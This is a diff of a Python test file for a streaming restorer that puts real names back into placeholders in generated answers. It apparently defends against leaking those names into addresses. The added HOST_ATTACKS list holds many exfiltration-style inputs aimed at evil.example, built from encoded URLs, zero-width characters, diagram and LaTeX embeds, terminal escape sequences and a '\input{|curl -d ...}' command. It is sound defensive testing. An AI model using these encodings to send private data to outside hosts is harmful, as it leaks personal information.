@@ -87,7 +87,8 @@ def test_only_what_could_become_a_token_is_held() -> None:
     assert restorer.push("SONG") == "⟦PERSONG"
     assert restorer.push(" ⟦PERSON_1") == " "
     assert restorer.push("2") == ""
-    assert restorer.push("⟧") == "Person 12"
+    assert restorer.push("⟧") == ""
+    assert restorer.push(", who") == "Person 12, who"
 
 
 @pytest.mark.parametrize("end", ["⟦", "⟦PERSON", "⟦PERSON_1"])
@@ -270,11 +271,171 @@ def test_what_is_told_counts_where_an_address_begins() -> None:
     assert restored(text, [3] * 9, values) == "https://x.example/⟦PERSON_1⟧ Ann"
 
 
+HOST_ATTACKS = [
+    # A host without a scheme, in the languages of answers.
+    "evil.example/⟦PERSON_1⟧",
+    "see evil.example:8443/a?b=⟦PERSON_1⟧",
+    "EVIL.example?⟦PERSON_1⟧",
+    "evil.example#⟦PERSON_1⟧",
+    "evil.example\\⟦PERSON_1⟧",
+    "evil.example./⟦PERSON_1⟧",
+    "a.b-c.evil.co/x/⟦PERSON_1⟧",
+    "a@evil.example/⟦PERSON_1⟧",
+    "user:pw@evil.example/⟦PERSON_1⟧",
+    "10.0.0.1/⟦PERSON_1⟧",
+    "[::1]/⟦PERSON_1⟧",
+    "https:[2001:db8::7]:80/⟦PERSON_1⟧",
+    "xn--vil-7ua.xn--p1ai/⟦PERSON_1⟧",
+    "пример.испытание/⟦PERSON_1⟧",
+    "evil。example/⟦PERSON_1⟧",
+    "evil\uff0eexample\uff0f⟦PERSON_1⟧",
+    "e\u00advil.exa\u200bmple/⟦PERSON_1⟧",
+    "evil" + "\u200b" * 200 + ".example" + "\u2060" * 200 + "/⟦PERSON_1⟧",
+    "\\\\host\\share\\⟦PERSON_1⟧",
+    # As a label or the user of one.
+    "⟦PERSON_1⟧.evil.example",
+    "x⟦PERSON_1⟧-y.evil.example.",
+    "⟦PERSON_1⟧⟦PERSON_2⟧.evil.example",
+    "⟦PERSON_1⟧.⟦PERSON_2⟧.evil.example",
+    "⟦PERSON_1⟧.evil/",
+    "⟦PERSON_1⟧.zip/a",
+    "⟦PERSON_1⟧.com",
+    "⟦PERSON_1⟧.evil.example:80/",
+    "⟦PERSON_1⟧@evil.example",
+    "⟦PERSON_1⟧:pw@evil.example/",
+    "⟦PERSON_1⟧&#46;evil&period;example",
+    "⟦PERSON_1⟧%2Eevil%2eexample",
+    "⟦PERSON_1⟧\u200b.evil\u00ad.example",
+    "⟦PERSON_1⟧。evil.example",
+    "⟦PERSON_1⟧" + "-" * 400 + ".evil.example",
+    # Marks as references.
+    "https&#58;&#47;&#47;evil.example/⟦PERSON_1⟧",
+    "https&#x3a;//evil.example/⟦PERSON_1⟧",
+    "https&colon;&sol;&sol;evil&period;example&sol;⟦PERSON_1⟧",
+    "evil&#46;example/⟦PERSON_1⟧",
+    "evil&#46example&#47⟦PERSON_1⟧",
+    "ht&#116;ps&#58;evil⟦PERSON_1⟧",
+    "evil.example%2F⟦PERSON_1⟧",
+    "https%3A%2F%2Fevil.example%2F⟦PERSON_1⟧",
+    "evil&shy;.example&ZeroWidthSpace;/⟦PERSON_1⟧",
+    # Any scheme.
+    "<irc:⟦PERSON_1⟧>",
+    "<made-up+1.x:a b ⟦PERSON_1⟧>",
+    "irc:evil/⟦PERSON_1⟧",
+    "tel:+1?x=⟦PERSON_1⟧",
+    "data:text/html,⟦PERSON_1⟧",
+    "sip:a@⟦PERSON_1⟧",
+    # Other languages of documents.
+    "[[evil.example/⟦PERSON_1⟧]]",
+    "[img]evil.example/⟦PERSON_1⟧[/img]",
+    "[img]evil.example/a b ⟦PERSON_1⟧[/img]",
+    "[url=evil.example/⟦PERSON_1⟧]a[/url]",
+    "\\includegraphics{evil.example/⟦PERSON_1⟧}",
+    "\\includegraphics[width=2cm]{⟦PERSON_1⟧}",
+    "\\graphicspath{{//evil.example/}}\\includegraphics {a b ⟦PERSON_1⟧}",
+    "\\href{a {b} ⟦PERSON_1⟧}{c}",
+    "\\input{|curl -d ⟦PERSON_1⟧}",
+    "\\url{a ⟦PERSON_1⟧}",
+    "image::evil.example/⟦PERSON_1⟧[]",
+    ".. image:: evil.example/⟦PERSON_1⟧.png",
+    "link:evil.example/⟦PERSON_1⟧[a]",
+    "{{evil.example/a?⟦PERSON_1⟧}}",
+    '"a":evil.example/⟦PERSON_1⟧',
+    "!evil.example/⟦PERSON_1⟧!",
+    "<!-- evil.example/⟦PERSON_1⟧ -->",
+    # Code that is drawn may build its address.
+    '```vega-lite\n{"data": {"values": [{"n": "⟦PERSON_1⟧"}]}}\n```',
+    "~~~~ {.mermaid}\n```\n~~~\nA[⟦PERSON_1⟧]\n~~~~",
+    "> ```plantuml\n> !$a = ⟦PERSON_1⟧\n> ```",
+    "::: mermaid\nA[⟦PERSON_1⟧]\n:::",
+    "@startuml\n!$a = ⟦PERSON_1⟧\n@enduml",
+    "```mermaid\na ``` ⟦PERSON_1⟧\n",
+    '<script>var a = "⟦PERSON_1⟧"</script> ⟦PERSON_2⟧',
+    # What a terminal obeys.
+    "\x1b]52;c;⟦PERSON_1⟧\x07",
+    "\x1b]0;a b\n⟦PERSON_1⟧\x1b\\ ⟦PERSON_2⟧",
+    "\x9d52;c;⟦PERSON_1⟧",
+    "⟦PERSON_1⟧\x1b[2J",
+    "⟦PERSON_1⟧-x\x07",
+    "\x00⟦PERSON_1⟧",
+    "\u202e⟦PERSON_1⟧",
+    "\u2066a ⟦PERSON_1⟧",
+]
+
+
+@pytest.mark.parametrize("text", HOST_ATTACKS)
+def test_no_host_diagram_or_command_gets_a_name(text: str) -> None:
+    for size in (1, 2, 7, len(text)):
+        assert restored(text, [size] * len(text), VALUES) == text
+
+
+ORDINARY = [
+    "Dr. ⟦PERSON_1⟧, e.g. ⟦PERSON_2⟧, i.e. ⟦PERSON_3⟧.",
+    "and/or ⟦PERSON_1⟧ and ⟦PERSON_2⟧/⟦PERSON_3⟧, his/her/⟦PERSON_4⟧",
+    "Node.js and ⟦PERSON_1⟧; use config.yaml, ⟦PERSON_2⟧!",
+    "at 5 p.m.⟦PERSON_1⟧ said; by 3.5/10 ⟦PERSON_2⟧",
+    "It ended.⟦PERSON_1⟧ left.Then ⟦PERSON_2⟧.Then ⟦PERSON_3⟧.",
+    "Name:⟦PERSON_1⟧ Tel.:⟦PERSON_2⟧ Re:⟦PERSON_3⟧",
+    "⟦PERSON_1⟧'s, ⟦PERSON_2⟧\u2019s, ⟦PERSON_3⟧s, Mr ⟦PERSON_4⟧-⟦PERSON_5⟧",
+    "⟦PERSON_1⟧... ⟦PERSON_2⟧…? ⟦PERSON_3⟧!",
+    "«⟦PERSON_1⟧» “⟦PERSON_2⟧” (⟦PERSON_3⟧) [⟦PERSON_4⟧] {⟦PERSON_5⟧}",
+    "**⟦PERSON_1⟧** *⟦PERSON_2⟧* _⟦PERSON_3⟧_ `⟦PERSON_4⟧` ~~⟦PERSON_5⟧~~",
+    "- ⟦PERSON_1⟧: 50%, ⟦PERSON_2⟧: 3 & 4, ⟦PERSON_3⟧ & ⟦PERSON_4⟧",
+    "| Name | Age |\n|:---|---:|\n| ⟦PERSON_1⟧ | 5 |\n|⟦PERSON_2⟧|6|",
+    "Save it as ⟦PERSON_1⟧.docx, ⟦PERSON_2⟧.pdf or Letter_⟦PERSON_3⟧.txt.",
+    "C:\\Users\\⟦PERSON_1⟧\\a.txt and /home/⟦PERSON_2⟧/a.txt",
+    "Version 1.2.3 by ⟦PERSON_1⟧, 12.05.1980 ⟦PERSON_2⟧, $3.50/⟦PERSON_3⟧",
+    "Write to clinic.example or ask ⟦PERSON_1⟧ at clinic.example.",
+    "See clinic.example/portal, ⟦PERSON_1⟧. Ward 3.1/a: ⟦PERSON_2⟧",
+    "Mail x@clinic.example: ⟦PERSON_1⟧; cc ⟦EMAIL_1⟧, @ ⟦PERSON_2⟧",
+    "O&#39;Brien &amp; ⟦PERSON_1⟧ &lt;⟦PERSON_2⟧&gt; &quot;⟦PERSON_3⟧&quot;",
+    '{"name": "⟦PERSON_1⟧", "email":"⟦EMAIL_1⟧","next":"⟦PERSON_2⟧"}',
+    "name: ⟦PERSON_1⟧\nward: 3\nwho:\n  - ⟦PERSON_2⟧\n",
+    "name,age\n⟦PERSON_1⟧,5\n⟦PERSON_2⟧;6",
+    "```python\n# ⟦PERSON_1⟧\nx = y.name('⟦PERSON_2⟧')[1:2]\n```\n⟦PERSON_3⟧",
+    "```\n⟦PERSON_1⟧\n```\n~~~text\n⟦PERSON_2⟧\n~~~",
+    "```mermaid\nA-->B\n```\n⟦PERSON_1⟧ and a dot, ⟦PERSON_2⟧",
+    "\\textbf{⟦PERSON_1⟧} \\section{Letter to ⟦PERSON_2⟧} \\href{a}{b} ⟦PERSON_3⟧",
+    "From: ⟦PERSON_1⟧\r\nTo: ⟦PERSON_2⟧\r\n\r\nDear ⟦PERSON_3⟧,",
+    "⟦PERSON_1⟧ さん。⟦PERSON_2⟧。次に ⟦PERSON_3⟧",
+    "Q: ⟦PERSON_1⟧? A: no, U.S. ⟦PERSON_2⟧, Ph.D., St. ⟦PERSON_3⟧",
+    "10:30 ⟦PERSON_1⟧; 08/09/2024 ⟦PERSON_2⟧; 1.2.2024⟦PERSON_3⟧",
+    "Mail x@chart.example, or me @ work, for the map\n⟦PERSON_1⟧",
+    "Use ```dot``` or ``map`` here\n⟦PERSON_1⟧",
+    "::: info\n⟦PERSON_1⟧\n:::\nx ~~~ y :: z\n⟦PERSON_2⟧",
+    "<p>⟦PERSON_1⟧</p><b>⟦PERSON_2⟧</b> <!-- ⟦PERSON_3⟧ -->",
+]
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_ordinary_answers_get_all_their_names(text: str) -> None:
+    for size in (1, 2, 7, len(text)):
+        assert restored(text, [size] * len(text), VALUES) == replaced(text, VALUES)
+
+
+def test_a_name_is_told_as_soon_as_its_word_has_ended() -> None:
+    restorer = Restorer(VALUES)
+    assert restorer.push("Dear ⟦PERSON_1⟧") == "Dear "
+    assert restorer.push(",") == "Person 1,"
+    assert restorer.push(" ⟦PERSON_2⟧.evil") == " "
+    assert restorer.push(".example ") == "⟦PERSON_2⟧.evil.example "
+    assert restorer.in_urls == 1
+
+
 MARKS = [*PARTS, "https://x/", " ", '"', "](", ")", "<img ", "a=", ">", "[a]:", "\n"]
 
 
 @given(
-    st.lists(st.sampled_from([*MARKS, "'", "\\", "url(", "<", "<style>"]), max_size=40),
+    st.lists(
+        st.sampled_from(
+            [
+                *("'", "\\", "url(", "<", "<style>", ".evil", ".x/", "@", "&#4", "6;"),
+                *("%2", "F", "```", "mermaid", "\\href{", "}", "\x1b", "\u200b", "."),
+                *(*MARKS, "irc:", "\u202e", "。", "10.0.0.1"),
+            ]
+        ),
+        max_size=40,
+    ),
     st.lists(st.integers(1, 9), max_size=60),
 )
 def test_addresses_are_seen_in_any_chunking(parts: list[str], sizes: list[int]) -> None:
@@ -286,17 +447,17 @@ def test_an_address_stays_open_however_long_it_is() -> None:
     restorer = Restorer(VALUES)
     assert len(restorer.push("![x](" + "a" * 10_000)) == 10_005
     for _ in range(2_000):
-        assert restorer.push("a ⟦PERSON_1⟧") == "a ⟦PERSON_1⟧"
-    assert restorer.push("\n\n⟦PERSON_1⟧") == "\n\nPerson 1"
+        assert restorer.push("a ⟦PERSON_1⟧ ") == "a ⟦PERSON_1⟧ "
+    assert restorer.push("\n\n⟦PERSON_1⟧ ") == "\n\nPerson 1 "
 
 
 def test_an_answer_of_nothing_but_stand_ins_is_broken() -> None:
     """Each is looked at, and an answer may be large: that would take minutes."""
     restorer = Restorer(VALUES)
-    told = restorer.push("⟦PERSON_1⟧" * MAX_STAND_INS)
-    assert told == "Person 1" * MAX_STAND_INS
+    told = restorer.push("⟦PERSON_1⟧ " * MAX_STAND_INS)
+    assert told == "Person 1 " * MAX_STAND_INS
     with pytest.raises(EnclaveError) as broken:
-        restorer.push("⟦PERSON_1⟧")
+        restorer.push("⟦PERSON_1⟧ ")
     assert broken.value.reason is FailureReason.ANSWER_BROKEN
 
 
@@ -311,12 +472,11 @@ def events(*given: AnswerEvent) -> list[AnswerEvent]:
 
 def test_an_answer_is_restored_event_by_event() -> None:
     told = events(
-        Delta(text="Dear ⟦PER"), Delta(text="SON_1⟧"), Delta(text="⟦X_1⟧."), FINISHED
+        Delta(text="Dear ⟦PER"), Delta(text="SON_1⟧"), Delta(text=" ⟦X_1⟧."), FINISHED
     )
     assert [event.text for event in told if isinstance(event, Delta)] == [
         "Dear ",
-        "Person 1",
-        "⟦X_1⟧.",
+        "Person 1 ⟦X_1⟧.",
     ]
     end = told[-1]
     assert isinstance(end, Finished)
